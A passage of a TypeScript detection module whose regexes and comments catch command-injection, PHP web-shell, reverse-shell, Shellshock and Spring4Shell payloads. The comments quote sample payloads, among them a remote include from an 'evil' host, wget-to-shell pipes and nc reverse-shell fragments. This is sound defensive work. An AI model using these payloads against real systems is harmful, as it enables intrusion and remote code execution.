0}\.(?:ini|log|dll|exe|sam|dat)))\s{0,4}$/
/** (thirty-second round) documentation's placeholder directory (`"path": "/path/to/app/host.py"`, a manifest's example): no server has it; a climb out of it still counts */
const PLACEHOLDER_PATH = /^\/path\/to\/(?![^\n]*(?:\.\.|%|\0))/
const SERVER_EXTENSION = /\.(?:php\d?|phtml|inc|ini|conf|config|cfg|log|xml|sql|bak|yml|yaml|env|properties|pem|key|asp|aspx|jsp|cgi|pl|py|rb|sh|passwd|htaccess|htpasswd)(?:%00|\0)?$/

/** PHP's complex syntax and assert: {${system(id)}}  ${@print(md5(1))} (a call inside the call too) (not JavaScript's interpolation in a template literal: `loaded in ${getTime()}`, nor zsh's nested expansion with flags: `"${${(M)0:#/*}:-$PWD/$0}"`) */
// (thirty-second round: nor an Adaptive Card's template calling its expression language's functions, none of them PHP's, `${formatDateTime(start.dateTime, 'HH:mm')}`;
// review: on plain arguments only, no call, backtick or `$` in them — PHP evaluates the arguments of a function an application defines, Laravel's `last()`)
/** a backtick, for the patterns written as template strings */
const BACKTICK = '`'
/**
 * PHP's complex syntax opened by `opening` (`${` with PHP's `@`, or a narrower opening: BICEP_COMPLEX; each opens on `${`, looked at before
 * the template literal's backtick is looked for behind it — fifty-first round: that look back, made at every position, cost 3 ms a 16 KiB value;
 * forty-sixth session's audit: and only where a name and its parenthesis follow, as every opening's match needs — made at every `${`, it cost
 * 8 ms a 30 KiB header of `${{{`)
 */
const phpComplex = (opening: string) =>
  new RegExp(String.raw`\{\$\{(?!\()[^}]{0,60}\(|(?=\$\{@?[a-z_]{2,20}\()(?<!${BACKTICK}[^${BACKTICK}\n]{0,200})${opening}(?!(?:formatdatetime|formatepoch|formatticks|formatnumber|utcnow|adddays|addhours|addminutes|addseconds|converttimezone|dayofweek|dayofmonth|month|year|ticks|string|int|float|bool|json|jpath|if|concat|length|substring|toupper|tolower|startswith|endswith|contains|indexof|coalesce|exists|equals|select|where|getproperty|isstring|isinteger|isarray|isobject|isdatetime|uricomponent|datauri|base64|newguid|sentencecase|titlecase)\([^()${BACKTICK}$\n]{0,200}\))[a-z_]{2,20}\((?:[^()\n]|\([^()\n]{0,60}\)){0,60}\)\}`)
const PHP_COMPLEX = phpComplex(String.raw`\$\{@?`)
/**
 * A command's output piped into a shell, which runs it: `echo id | sh`, `echo whoami|$0`, `printf … | rev | sh`
 * (the shell at the end of the line or before a separator or a comment, after a command with an argument: a
 * Markdown table's `| sh |` cell and a lone word's `salt | sh` are none).
 */
/** A Markdown table: its delimiter row (`|---|:---:|`; thirty-sixth round: a cell of one or two dashes after a `|`, `| -: |`, as GFM allows; forty-first round: its
 * dashes padded up to a column, `| ------------      |`), and each of its rows. */
const TABLE_DELIMITER = /^[ \t]{0,3}(?:\|[ \t]{0,4}:?-{1,}|\|?[ \t]{0,4}:?-{3,}):?[ \t]{0,40}\|/m
// (review of the thirty-fifth round: a row ends at a line feed only, as a shell's line does — not at a carriage return or U+2028, which
// JavaScript's multi-line `$` would take for one: `\r| curl …|sh #|` is a command on the line before to a shell; forty-fourth round: a
// carriage return before that line feed is its end, a page written on Windows, `|Version|Description|Date|\r\n|---|---|---|\r\n`)
const TABLE_ROW = /(?<![^\n])[ \t]{0,3}\|[^\n\r\u2028\u2029]{0,2000}\|[ \t]*\r?(?=\n|$)/g
/** (review of the forty-first round) a line a shell continues onto the next: `\`, `&&` or `||` at its end, or a `|` ending a line that is no row */
const CONTINUES = /(?:\\|&&|\|\|)[ \t]*$|^(?![ \t]{0,3}\|)[^\n]*\|[ \t]*$/
/** A Markdown text without its tables' rows (not a row a line continues into: `ls \⏎| id; echo x #|` is one command). */
function withoutTableRows(v: string): string {
  const cased = v.includes('esac') && CASE_CLOSED.test(v)
  return v.replace(TABLE_ROW, (row: string, at: number) => {
    const before = v.lastIndexOf('\n', at - 2)
    return (at > 0 && CONTINUES.test(v.slice(before + 1, at - 1))) || (row.endsWith('\r') && (at === 0 || cased || !PLAIN_ROW.test(row))) ? row : ''
  })
}
/**
 * (forty-fourth round, review) a row ending in CR LF set aside: one of words, numbers and punctuation only, no quote, substitution,
 * expansion, escape or separator of the shell's (`| x'; id; echo ' |\r`, `|x| \`id\` |\r` in a value spliced inside quotes ran `id`),
 * which the rows ending in LF alone never had to hold (a limit of their own, docs/detection.md); second review: and not the value's first
 * line, where its pipes follow the command the value is spliced after (`| x | curl -s http://… | sh |\r\n|---|`)
 */
const PLAIN_ROW = /^[^`$'"\\;&<>]*$/
/**
 * (twenty-sixth round) A text table as psql and MySQL print them and READMEs paste them: a delimiter row of dashes joined by `+`
 * (`------+---------`, `+----+----+`), and its rows, cells parted by `|` between blanks (`64001 | mysql | mysql-server`): a table's
 * borders, not pipes into commands (a row holding a shell's separator or substitution, `; ls | nc …`, is no row).
 */
const TEXT_TABLE_DELIMITER = /^[ \t]{0,8}\+?-{3,}(?:\+-{3,}){1,30}\+?[ \t]*$/m
const TEXT_TABLE_ROW = /^[ \t]{0,8}(?:\|[ \t])?[^\n|;&`$]{1,200}(?:[ \t]\|[ \t][^\n|;&`$]{0,200}){1,30}(?:[ \t]\|)?[ \t]*$/gm
/** (review) a row's cells, its borders cut */
const TEXT_TABLE_BORDER = /^[ \t]*\|[ \t]|[ \t]\|[ \t]|[ \t]\|[ \t]*$/
/** (review) a row one of whose cells is a command line (`127.0.0.1\nwget http://…/x.sh -O- | sh` under a `---+---` line): no table's row, a pipe */
function textTableCommand(row: string): boolean {
  for (const raw of row.split(TEXT_TABLE_BORDER, 32)) {
    const cell = raw.trim()
    if (cell.length > 1 && (bareCommand(cell) || (cell.includes(' ') && commandLine(cell)))) return true
  }
  return false
}
/** (json22) A Markdown table's header row then its delimiter row: the code spans in its cells are quoted text (a notebook cell holding a table alone). */
const TABLE_START = /^[ \t]{0,3}\|[^\n]{0,2000}\|[ \t]*\n[ \t]{0,3}(?:\|[ \t]{0,4}:?-{1,}|\|?[ \t]{0,4}:?-{3,}):?[ \t]{0,4}\|/m
const PIPE_TO_SHELL = /[\w'"`)\]][ \t]{0,4}\|[ \t]{0,4}\$0[ \t]{0,4}(?:$|[;&\n#`)])|(?:\S[ \t]{1,4}[^\s|;&]{0,60}|<<<[^\s|]{0,60})[\w'"`)\]][ \t]{0,4}\|[ \t]{0,4}(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh(?:[ \t]{1,4}-[a-z]{1,3})?[ \t]{0,4}(?:$|[;&\n#`)])/
/**
 * characters cut out of a variable (${LS_COLORS:10:1}, ${PATH:0:1}; not a test's operand: `[[ ${LBUFFER:0:1} = " " ]]`), a command in brace
 * expansion (;{cat,/etc/passwd}; thirtieth round: given an option, a path, a number, a URL or a host as its argument, not an Erlang tuple
 * where a statement starts, `{ok,S} -> x;`, `{error,Reason};`)
 */
const VARIABLE_SLICE = /\$\{[a-z_][a-z0-9_]{1,30}:\d{1,3}:\d{1,3}\}(?!\s{1,10}(?:==?|!=|=~|-(?:eq|ne|lt|gt|le|ge))\s)|(?:^|[;|&`\n])\s{0,10}\{[a-z]{2,12},(?=[-/~.$\d'"\\*]|[a-z]{2,8}:\/\/|[\w-]{1,60}[./,])[^{}\s]{1,100}\}/
/** Remote code execution beyond the shell judge (src/insight/shell.ts): interpreters and sinks. */
/**
 * PHP code injected (eleventh round), judged as PHP statements rather than as payloads: an open tag whose first
 * line runs a command or code (`<?php system('id'); ?>`, `<?=`…`;`); a breakout (`;`, `";`, `a;`) then
 * statements that call a function through a variable assigned in them (`"; $_a=(! 'a') . "php"; $_a(1);`,
 * `; e|$a=&$_GET; …$a[a](…)`), an inclusion of a remote or wrapped URL (`; include "http://…"`), or an echo
 * of a file-reading or command built-in; a server script opened or written for writing (`fopen("x.php", "w")`,
 * a web shell dropped); PHP given as a `data:` URL to include (`data:;base64,PD9waHA…`).
 */
const PHP_CODE = [
  /<\?(?:php\b|=)[^\n]{0,200}?(?:`|\$\{|\b(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|eval|assert|phpinfo|base64_decode|fwrite|fputs|file_put_contents|create_function|call_user_func)\s*\()/,
  /^[\s'"]{0,10}(?:\w{1,20}\s{0,4})?[;|][^\n]{0,200}?\$[a-z_]\w{0,30}\s{0,4}\.?=[^\n]{0,200}?\$[a-z_]\w{0,30}(?:\s{0,4}\[[^\]\n]{0,20}\])?\s{0,4}\(/,
  /^[\s'"]{0,10}(?:\w{1,20}\s{0,4})?;\s{0,10}(?:(?:include|require)(?:_once)?\s{0,10}\(?\s{0,10}['"]\s{0,4}(?:https?|ftp|php|data|expect|zip|phar|compress\.zlib):|(?:echo|print)\s{1,10}(?:file_get_contents|readfile|shell_exec|system|exec|passthru|file|highlight_file|show_source)\s*\()/,
  /\b(?:fopen\s*\(\s*['"][^'"\n]{1,100}\.(?:php\d?|phtml|jspx?|aspx?|sh|py|pl|cgi|htaccess)['"]\s*,\s*['"][wax]|file_put_contents\s*\(\s*['"][^'"\n]{1,100}\.(?:php\d?|phtml|jspx?|aspx?|sh|py|pl|cgi|htaccess)['"])/,
  /^\s*data\s*:[^,]{0,60};base64,\s*pd9waha/,
  // (twenty-third round) a web shell's line: the request's own input handed to an include or to preg_replace's `/e` (`<?php include($_GET['file']); ?>`,
  // `<?php preg_replace('/a/e',$_GET['cmd'],'a'); ?>`), and PHP's own script element holding code (`<script language='php'>echo …</script>`)
  /<\?(?:php\b|=)[^\n]{0,200}?(?:\b(?:include|require)(?:_once)?\s{0,4}\(?\s{0,4}\$_(?:get|post|request|cookie)\b|\bpreg_replace\s{0,4}\(\s{0,4}['"]\/[^'"\n]{0,100}\/[a-z]{0,6}e[a-z]{0,6}['"])|<script\s{1,4}language\s{0,4}=\s{0,4}['"]?php['"]?\s{0,4}>\s{0,10}[$a-z_]/,
  // the SQLite shell's dot commands that run a program, after a separator or a line break (`;\n.system nc … -e sh`, `1;.'shell whoami`)
  /(?:^|[;\n]|\\n)\s{0,4}\.\s{0,4}['"]?(?:system|shell)['"]?[ \t]{1,4}[a-z/]/,
]

/**
 * (seventeenth round) PHP's sink names spelt backwards, in ROT13 or in base64 (`strrev('metsys')`, `str_rot13('flfgrz')`,
 * `base64_decode('c3lzdGVt')`), as the value lower-cased has them: assigned to a variable that is then called.
 */
const PHP_ENCODED_NAME = /\b(strrev|str_rot13|base64_decode)\s{0,4}\(\s{0,4}['"]([a-z0-9+/=_]{2,40})['"]\s{0,4}\)/
const PHP_SINK_NAMES = ['system', 'exec', 'passthru', 'shell_exec', 'popen', 'proc_open', 'assert', 'pcntl_exec']
const rot13 = (t: string) => t.replace(/[a-z]/g, (ch) => String.fromCharCode(((ch.charCodeAt(0) - 97 + 13) % 26) + 97))
const PHP_ENCODED_SINKS = new Set(PHP_SINK_NAMES.flatMap((n) => [`strrev:${[...n].reverse().join('')}`, `str_rot13:${rot13(n)}`, `base64_decode:${Buffer.from(n).toString('base64').toLowerCase()}`, `base64_decode:${Buffer.from(n).toString('base64').replace(/=+$/, '').toLowerCase()}`]))
/**
 * (twenty-eighth round) A sink's name joined from PHP string pieces (`$a='sy'.'stem';$a('ls');`, `("sys"."tem")("id")`,
 * PHP 5's bare constants `(sy.(st).em)(whoami)`): two to eight pieces, then a call through a variable or of the joined name itself.
 */
const PHP_JOINED_NAME = /(?:(['"])[a-z_]{1,20}\1|\(?[a-z_]{1,20}\)?)(?:\s{0,4}\.\s{0,4}(?:(['"])[a-z_]{1,20}\2|\(?[a-z_]{1,20}\)?)){1,7}/g
const PHP_PIECE = /[^a-z_]/g
function phpJoinedSink(v: string): boolean {
  PHP_JOINED_NAME.lastIndex = 0
  for (let m = PHP_JOINED_NAME.exec(v); m !== null; m = PHP_JOINED_NAME.exec(v)) {
    if (!m[0].includes('.') || !PHP_SINK_NAMES.includes(m[0].replace(PHP_PIECE, ''))) continue
    const rest = v.slice(m.index + m[0].length, m.index + m[0].length + 200)
    // (review of the twenty-eighth round) the joined name called needs its parentheses closed first (`('sy'.'stem')(…)`,
    // `(sy.(st).em)(…)`): the last piece called at once is a method's call (Python's `p.open('w')`), in PHP that piece's own
    if (!m[0].endsWith(')') && /^\s{0,4}\(/.test(rest)) continue
    if (/^\s{0,4}\)?\s{0,4}\(/.test(rest) || /\$\w{1,20}\s{0,4}\(/.test(rest)) return true
  }
  return false
}
function phpEncodedSink(v: string): boolean {
  const m = PHP_ENCODED_NAME.exec(v)
  return m !== null && PHP_ENCODED_SINKS.has(`${m[1]}:${m[2]}`) && /\$\w{1,20}\s{0,4}\(/.test(v.slice(m.index + m[0].length, m.index + m[0].length + 200))
}

/**
 * (sixteenth round) Other languages' process calls handed a shell or a recon program (`IO.popen('id')`, `Process.spawn('ls')`, `exec.Command("id").Run()`,
 * `syscall.Exec("/bin/ls", …)`, Perl's `qx{ls}`, ColdFusion's `<cfexecute`), PHP's sinks handed over as a callback
 * (`register_shutdown_function('system','ls')`), shell arithmetic on two numbers (`$((47+99))`: a probe's checksum echoed back),
 * a variable assigned a command's output right after `;`, `&` or `|` (`; str=$(echo X); str1=${#str}; …`; a script's own lines assign so),
 * (twenty-eighth round) Perl's two-argument open of a pipe (`open(F,'ls|')`, `open(FH, "|/bin/sh")`).
 * Not in a program's source, nor in a shell script's.
 */
const RCE_CALLS = /\b(?:io\.popen|process\.spawn|exec\.command|syscall\.exec|kernel\.(?:system|spawn|exec)|open3\.(?:popen3|capture2e?)|pcntl_exec|os\.execute|(?:system\.diagnostics\.)?process\.start)\s{0,4}\(\s{0,4}['"`](?:\/(?:usr\/)?s?bin\/|(?:id|ls|dir|whoami|uname|hostname|sh|bash|zsh|cmd(?:\.exe)?|powershell|pwsh|cat|type|curl|wget|nc|ncat|ping|nslookup|env|printenv|ifconfig|ipconfig|netstat|ps|net)\b)|(?:\bqx|%x)\s{0,4}[{(\[][^\n{}()[\]]{1,100}[})\]]|<cfexecute\b|\b(?:register_shutdown_function|call_user_func(?:_array)?|array_map|array_filter|usort|register_tick_function)\s{0,4}\(\s{0,4}['"](?:system|exec|passthru|shell_exec|popen|proc_open|assert|pcntl_exec)['"]|\$\(\(\s{0,4}\d{1,6}\s{0,4}[-+*/%]\s{0,4}\d{1,6}\s{0,4}\)\)|\$\{?(?:bash|shell|0)\}?[ \t]{1,4}-c[ \t]|\b(?:print|puts|echo|exit|die|var_dump|print_r|p)\s{0,4}\(?\s{0,4}`\s{0,4}(?:id|ls|whoami|uname|pwd|hostname|ifconfig|ipconfig|cat|dir|env|ps)\b[^`\n]{0,60}`|\(\s{0,4}(?:system|exec|passthru|shell_exec|popen|proc_open)\s{0,4}\)\s{0,4}\(\s{0,4}['"]|\barray_(?:walk|map|filter|reduce)\s{0,4}\([^;\n]{0,80},\s{0,4}['"](?:system|exec|passthru|shell_exec|assert)['"]|\b(?:then[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}[ \t]{0,4}[;\n][ \t]{0,8}else[ \t]{1,4}sleep[ \t]{1,4}\d{1,3})\b|[;&|][ \t]{0,4}[a-z_]\w{0,20}=\$\((?!\()|\bopen\s{0,4}\(\s{0,4}[\w$]{1,20}\s{0,4},\s{0,4}(['"])\s{0,4}(?:\|\s{0,4}(?:\/(?:usr\/)?s?bin\/|(?:id|ls|whoami|uname|cat|sh|bash|nc|ncat|curl|wget|ping|nslookup|env|ps|netstat|ifconfig|hostname)\b)[^'"\n|]{0,100}|(?:\/(?:usr\/)?s?bin\/|(?:id|ls|whoami|uname|cat|sh|bash|nc|ncat|curl|wget|ping|nslookup|env|ps|netstat|ifconfig|hostname)\b)[^'"\n|]{0,100}\|)\s{0,4}\1\s{0,4}\)/
/**
 * (nineteenth round) A remote file included or opened by URL (`include("http://evil/shell.txt")`, `require(…)`,
 * `fopen("http://…","r")`), and Python's `eval(compile(…))`: left out of a program's own source, which may fetch what it likes.
 */
/**
 * (twentieth round) The shell's parameter expansions that cut a variable's value to spell a path or a program
 * (`${PATH%%u*}` is `/`, `${APACHE_CONFDIR%apache2}` is `/etc/`): two of them, or one with `${IFS}` — an evasion; not in a
 * program's or a script's own source, where `${file%.txt}` is everyday shell.
 */
const PARAMETER_CUTS = /\$\{[a-z_]\w{0,30}(?:%{1,2}|#{1,2})[^{}\s]{0,40}\}[^\n]{0,200}?(?:\$\{[a-z_]\w{0,30}(?:%{1,2}|#{1,2})|\$\{?ifs\b)|\$\{?ifs\b[^\n]{0,200}?\$\{[a-z_]\w{0,30}(?:%{1,2}|#{1,2})/
// (review of the nineteenth round, by kind: a call whose result a program keeps — assigned, returned, handed on: `$fp =
// fopen("https://…", "r")`, `const m = require("https://…")` — reads a resource; the injected statement is the call alone.
// Python's compile() handed a string literal: the code is in the value, not a variable's `eval(compile(source, …))`)
/**
 * (twenty-first round) cmd's substring expansion glued to a program, cutting a blank or a path out of a variable's value
 * (`ping%CommonProgramFiles:~10,-18%IP`, `type%PROGRAMFILES:~10,-5%…`)
 */
const CMD_SUBSTRING = /\b[a-z]{2,12}%[a-z_]{2,30}:~-?\d{1,3}(?:,-?\d{1,3})?%/
const RFI = /(?<![=(,:?]\s{0,4}|\breturn\s{1,4})\b(?:include|require|include_once|require_once|fopen|file_get_contents|readfile|virtual)\s{0,4}\(?\s{0,4}['"](?:https?|ftps?|php|data|expect|zlib|phar):\/\/|\beval\s{0,4}\(\s{0,4}compile\s{0,4}\(\s{0,4}[rbuf]{0,2}['"]/
/** PHP's and C's process sinks called with a string or a variable (`system('id')`, `exec($cmd)`), and PHP's eval of decoded code */
/** PHP's eval of decoded or requested code: a sink in any program, Perl's included */
// (twenty-ninth round: a command sink handed a decoded string, `passthru(base64_decode($_server[…]))`; a request's server variables,
// which carry its headers, `eval($_server['http_x'])`)
const DECODED_EVAL = String.raw`\b(?:eval|system|exec|passthru|shell_exec|popen)\s*\(\s*(?:base64_decode|gzinflate|gzuncompress|str_rot13|\$_(?:get|post|request|cookie|server)\b)`
/**
 * (sixty-second round, the spent hundred-and-thirty-ninth part's miss) Spring4Shell (CVE-2022-22965) and its forebear (CVE-2010-1622): a
 * field named for the class loader a Java bean reaches through `getClass()` (`class.module.classLoader.resources.context.parent.pipeline
 * .first.pattern=…`, `class.classLoader.URLs[0]=…`, Struts' `class['classLoader']`), which data binding walks to rewrite the server's
 * access log into a JSP: no form has such a field. Not glued to a name before it (`myclass.classLoader`), and not in a program's source
 * (Groovy's `this.class.classLoader`). (Review: inside a value, only Spring4Shell's own assignments — its access log's valve set,
 * `class.module.classLoader.resources.context.parent.pipeline.first.pattern=…`, or `class.classLoader.URLs[0]=…` —: a question's
 * `class.classLoader.getResource()`, an advisory's or a rule's `class.module.classLoader` are text. Second look: the field's name too
 * after another property's, `address.class.module.classLoader.…`, or WebDataBinder's field-default `!`, each bound by Spring.)
 */
const CLASS_LOADER_PATH = /(?:^|[^\w.$])!?class\s{0,4}(?:\.|\[\s{0,4}['"]?)\s{0,4}(?:module\s{0,4}(?:['"]?\s{0,4}\]\s{0,4})?(?:\.|\[\s{0,4}['"]?)\s{0,4}classloader\s{0,4}(?:['"]?\s{0,4}\])?\s{0,4}\.\s{0,4}resources\s{0,4}\.\s{0,4}context\s{0,4}\.\s{0,4}parent\s{0,4}\.\s{0,4}pipeline\s{0,4}\.\s{0,4}first\s{0,4}\.\s{0,4}[a-z]{1,20}|classloader\s{0,4}(?:['"]?\s{0,4}\])?\s{0,4}\.\s{0,4}urls\s{0,4}\[\s{0,4}\d{1,3}\s{0,4}\])\s{0,4}=/
/** the same as a query's or a form's whole field name (`class.module.classLoader.resources…`, `class['classLoader'].resources`) */
const CLASS_LOADER_NAME = /^!?(?:[\w$]{1,60}\.){0,8}class(?:\.module|\[['"]?module['"]?\])?(?:\.classloader|\[['"]?classloader['"]?\])(?:$|[.[])/i
const CODE_SINK = new RegExp(String.raw`(?<![\w)\]]\.)\b(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(\s*(?!['"]\s{0,4}(?:create|alter|drop|select|insert|update|delete|declare|grant|truncate|merge)\s)(?:['"$][^)]{0,300}\)|['"][a-z]{2,12}\s)|` + DECODED_EVAL)
/** (twenty-ninth round) a probe's program named bare, as PHP takes an undefined constant for its name: `|system(id)|`, `@system(whoami);`, where a statement starts */
// (review: not after `=` or `(`, an assignment's or a call's argument in a C, Ruby or Python program, `int r = system(id);`, `(exec(id))`)
const BARE_PROBE_SINK = /(?:^|[;|&@{'"`])\s{0,4}(?:system|exec|passthru|shell_exec|popen)\s{0,4}\(\s{0,4}(?:id|whoami|uname|ifconfig|ipconfig|hostname)\s{0,4}\)\s{0,4}(?:$|[;|&@'"`])/
/** a backreference to the `n`th group, for the patterns written as template strings */
const back = (n: number) => `\\${n}`
/** the programs a glob qualifier's `+` may name after a qualifier's letters (`*(N+id)`): a probe's, not a C operand's (`*(n+len)`) */
const QUALIFIER_PROGRAMS = 'id|whoami|uname|hostname|ls|cat|curl|wget|sh|bash|zsh|nc|ncat|ping|sleep|touch|rm|python3?|perl|ruby|php|node|env|printenv|pwd'
/**
 * a glob qualifier list that runs a command, opening on `open`, ending the word (a quote may follow): up to 16 other qualifiers (not
 * opening on a link's `#anchor`), then `e` and its command in one of `commands` (the `n`th group its delimiter), or `+` and a command's
 * name after punctuation only, or after up to three letters and a probe's program (`*(N+id)`, `*(ND+id)`; not C's `*(p+i)`), then up to
 * 16 more qualifiers
 */
const qualifierList = (open: string, commands: string) =>
  String.raw`${open}(?!#)[^()\s&;|<>'"\x60$\\]{0,16}?(?:e${commands}|(?<=\([-^.\/@=%*,]{0,8})\+[a-z_][\w-]{0,40}|(?<=\([a-z]{1,3})\+(?:${QUALIFIER_PROGRAMS})\b)[^()\s]{0,16}\)(?=[\s;&|<>)'"]|$)`
/**
 * `e`'s command of two characters at least (not a minified call's `.(e,n,)`), up to the first closing delimiter, as zsh reads it
 * (review: a body that could close at each of 400 delimiters cost seconds on 64 KiB): in `[…]` or `{…}`, between `.`s with no blank, or
 * between a punctuation mark twice (the `n`th group; not a backslash, which zsh reads as an escape)
 */
const qualifierRun = (n: number, open = String.raw`\(`) =>
  qualifierList(open, String.raw`(?:\[[^\]()]{2,400}\]|\{[^}()]{2,400}\}|\.[^()\s.;&|<>]{2,400}\.|([^\w\s()[\]{}<>;&|.\\])(?:(?!${back(n)})[^()]){2,400}${back(n)})`)
/** a qualifier's list glued to a name's `*` (`a*(e:id:)`, `[a]*(e:id:)`): delimiters no arithmetic has (not `2*(e-1-x)`), no pair (`2*(e[i])`) */
const gluedQualifierRun = (n: number) => qualifierList(String.raw`\(`, String.raw`([:'"|@#~!%^])(?:(?!${back(n)})[^()]){2,400}${back(n)}`)
/**
 * zsh's glob qualifiers that run a command (`qualifierRun`): after a glob's `*` or `?` not glued to an operand; after a name's `*`
 * (`gluedQualifierRun`); after a path's word (`/`, `~`, `.`, `/tmp/`: not `//`, a comment's `//NOLINT(bugprone-…)`, nor a method's call
 * in it, `/\s/.test(e[n-1])`) or a glob's word whose `*` or `?` is not the last before the list (`a*b`; `*.png(` is a method's call
 * to this reading), neither crossing a separator, a quote or a backslash (`\(`, a
 * stylesheet's escaped parenthesis), nor ending on `]` (a Markdown link's text, `[**Overlay2**](#core/components/overlay2)`, `[…?](./x.md)`),
 * so that each parenthesis is tried from one start only
 */
const GLOB_QUALIFIER = new RegExp(
  String.raw`(?<![\w)\]}'"$])[*?]${qualifierRun(1)}|(?<=[\w\]])\*${gluedQualifierRun(2)}|(?:^|[\s;&|])(?!\/\/)(?![^\s();&|'"\\]{0,200}?\.[a-z_]\w{0,40}\()(?:[~\/.][^\s();&|'"\\]{0,200}?|[^\s();&|'"\\]{2,200}(?<=[*?][^\s();&|'"\\]{1,200}))(?<!\\)${qualifierRun(3, String.raw`(?:(?<!\])\(|(?<=\])\((?![.\/]|[^()\s]{0,16}\/\/))`)}`,
)
/**
 * (forty-sixth round's review) bash's and zsh's process substitution, `<(…)`, `>(…)`, and zsh's `=(…)`, opening a word (third review: not
 * alone in a field named for a command line, a CI step's or a package script's `paste <(cut -f1 a) <(cut -f2 b)`; fourth review: by its
 * whole name, `COMMAND_NAMED` — a report's `startDate` spliced into `date -u -d …` ran `<(id)` in bash)
 */
const PROCESS_SUBSTITUTION = /(?:^|[\s=:,{])[<>]\(|(?:^|\s)=\(/
/**
 * (forty-sixth round) a program's subscript by a variable or an array literal of one, `$this->types[$type]`, `$list[$type][]`, `= [$type];`:
 * glued to a sigil's variable or a property (PHP, Perl), or to no name at all — a query string's operator is glued to a plain key's name,
 * `password[$ne]=1`, `password[$ne][a]=1` (review), and is still read; nor with `=` glued after it
 */
const CODE_INDEX = /(?:(?<![\w\]])|(?<=(?:\$[a-z_]\w{0,40}|->[a-z_]\w{0,40})(?:\[[^\]\n]{0,40}\]){0,3}))\[[ \t]{0,4}\$[a-z_]\w{0,40}[ \t]{0,4}\](?!=)/g
/** cmd.exe run on a command line (`cmd /c …`, `cmd.exe /k …`) */
const CMD_RUN = /\bcmd(?:\.exe)?\s+\/[ck]\s/
/**
 * (fifty-sixth round) A value that opens on a pause of seconds and chains a probe's command to it (`sleep 10 && echo vulnerable`,
 * `sleep 5;id`): a timing probe. Not in a command field's own line nor in a program's source (left out of PROGRAM_RCE and CODE_RCE:
 * `"wait-db": "sleep 5 && echo ready"` in a package's scripts); reviews: not a diary's hours (`Sleep 8h⏎Cat to the vet`, `Sleep 6h & ping
 * the landlord`, `Sleep 7.5h | Type: deep | id: 4471`): seconds only, `&&`, `||`, `|` or `;`, an echo, an identity, a fetch or a lookup
 * followed by a blank, a separator or the end.
 */
const SLEEP_PROBE = /^\s*sleep\s+\d{1,4}(?:\.\d{1,3})?s?\s*(?:&&|\|\|?|;)\s*(?:echo|printf|id|whoami|uname|hostname|curl|wget|nslookup)(?=[\s;&|]|$)/
/**
 * (fifty-eighth round, the spent parts' misses) A value that is an address, then a separator and an echo (`127.0.0.1;echo test`,
 * `10.0.0.1%0aecho hi`, `[::1] | printf x`, `127.0.0.1\`echo x\``): what a ping or lookup form is sent to prove its address is handed to
 * a shell. An echo of words alone is read nowhere else (a chat's `ok; echo that`); a field's address is no sentence. Review: an IP
 * address (dotted, IPv6, or one number in hexadecimal as `ping` reads it) or `localhost` only — a host name's shape is a file's too
 * (`setup.exe && echo done`, `README.md | echo hi`) — with `ping`'s options around it (`-c 1 127.0.0.1;echo x`); the echo the value's last command, so that
 * a table's row is not one (`10.0.0.5;Echo Server;linux`); the command word escaped or brace-expanded as a shell reads it (`\echo`,
 * `{echo,x}`). Not in a program's source (left out of PROGRAM_RCE and CODE_RCE, as SLEEP_PROBE). Second review: the echo's argument one
 * token or one quoted string (a device's row, `192.168.1.42;Echo Dot Kitchen`, a ticket's `192.168.1.23⏎Echo Show keeps dropping…`, are
 * words), a separator after it allowed (`127.0.0.1;echo x;`); no bare number (an article's code, `12345678;Echo Dot`) nor a bare `::`
 * (a batch file's comment); `127.1`, octets written with a leading zero, `::ffff:` and a dotted address's port read as `ping` resolves
 * them (not `localhost:8080 && echo started`, a command field's).
 */
const ADDRESS_PROBE = /^\s*(?:-[a-z]{1,2}\s{1,4}\d{1,6}\s{1,4}){0,3}(?:(?:::ffff:)?\d{1,4}(?:\.\d{1,4}){3}(?::\d{1,5})?|127(?:\.\d{1,3}){1,2}|\[?(?:(?:[0-9a-f]{1,4}:){7}[0-9a-f]{1,4}|(?=[:0-9a-f]{0,40}[0-9a-f])[0-9a-f:]{0,30}::[0-9a-f:]{0,30})\]?|0x[0-9a-f]{8}|localhost)(?:\s{1,4}-[a-z]{1,2}\s{1,4}\d{1,6}){0,3}\s*(?:&&|\|\|?|;|&|\n|`|\$\()\s*\\?\{?(?:echo|printf)(?:\s+|,)(?:'[^'\n]{0,80}'|"[^"\n]{0,80}"|[^\s;|&'"]{1,80})\s*(?:[`)}]|;|&{1,2})?\s*$/
const RCE = [
  RFI,
  SLEEP_PROBE,
  ADDRESS_PROBE,
  PARAMETER_CUTS,
  /\/dev\/tcp\/\d|\bbash\s+-i\s*>&|\bnc(?:at)?\s+(?:-[a-z]+\s+){0,4}-e\s+\/bin|\bmkfifo\s+\/tmp/,
  // (found by the forty-fifth round's fifth review, older than the round) zsh's glob qualifiers that run a command for each file a glob
  // matches: `e` with a delimited command (`127.0.0.1 *(e:id -a:)`, `/*(e:"id":)`, `?(.e:id:)`) and `+` naming one (`x *(+id)`)
  // (forty-sixth round's review: any delimiter zsh takes, a punctuation mark or the pairs `[…]` and `{…}` (`*(e[id])`, `*(e,id,)`), the
  // command over lines; after a path's word too, `/(e:id:)`, `~(e:whoami:)`, `/tmp/(e[id])`; the list ending the word — and not a glob
  // character glued to an operand, C's `3*(b+c)`, `*(p+i)`, `*(++it)`, TypeScript's `onKeyDown?(e: KeyboardEvent)`)
  GLOB_QUALIFIER,
  // (forty-sixth round's review) zsh's `(e)` flag, which reads an expansion's text again as the shell's and runs what it substitutes
  // (`${(e):-\$\(id\)}`, ``${(e)x:-\`id\``}``): a substitution escaped inside such an expansion, or spelt by a code (`$'\44'(id)`,
  // `${(#):-36}(id)`); (second review: the flags read as one run and the text up to the first escape or nested `${`, 70 ms on 64 KiB of
  // `${(eeeeeeeeee)`)
  /\$\{\(([^()\s]{1,20})\)(?<=e[^()\s]{0,19}\))(?:[^}\n\\$]|\\[^$`\n]|\$(?!'|\{)){0,200}(?:\\[$`]|\$'|\$\{\(#\))/,
  // (twenty-sixth round) Shellshock: a value that opens on a bash function's definition, `() { :; }` or `() { _; }`, whatever follows it
  // (review: not a script's method body that only returns, `() { return; }`)
  /^\s{0,4}\(\s{0,4}\)\s{0,4}\{\s{0,4}(?!(?:return|debugger|break|continue)\b)[\w:]{1,10}\s{0,4};\s{0,4}\}/,
  // (twelfth round) a reverse shell's socket opened to an address and a port in an interpreter: PowerShell's
